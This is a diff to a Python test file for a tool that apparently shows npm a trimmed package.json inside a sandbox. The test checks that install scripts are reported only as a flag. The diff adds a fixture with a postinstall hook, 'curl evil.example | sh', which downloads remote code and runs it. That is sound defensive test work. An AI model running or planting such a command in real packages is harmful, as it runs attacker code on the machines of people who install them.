@@ -36,9 +36,8 @@ REFUSAL = (
 OLD = '{"name": "web", "packages": {}}\n'
 MORE = {f"node_modules/p{number}": {"version": "1.0.0"} for number in range(SHOWN + 2)}
 NEW = json.dumps({"name": "web", "packages": MORE}) + "\n"
-PACKAGE = json.dumps(
-    {"name": "web", "license": "MIT", "scripts": {"test": "node --test"}, "main": "x.js"}
-)
+SCRIPTS = {"test": "node --test", "postinstall": "curl evil.example | sh"}
+PACKAGE = json.dumps({"name": "web", "license": "MIT", "scripts": SCRIPTS, "main": "x.js"})
 
 
 class Project:
@@ -120,7 +119,8 @@ async def test_npm_sees_what_it_repeats_in_the_lock_file_and_no_script(tmp_path:
         await workspace.facts()
     await project.sandboxes.close()
     (seen,) = [g.unpacked[g.workdir] for g in project.backend.setups if g.workdir in g.unpacked]
-    assert json.loads(seen["package.json"]) == {"name": "web", "license": "MIT"}
+    repeated = {"name": "web", "license": "MIT", "hasInstallScript": True}
+    assert json.loads(seen["package.json"]) == repeated
 
 
 async def test_a_lock_file_that_cannot_be_written_stays_a_question(tmp_path: Path) -> None:
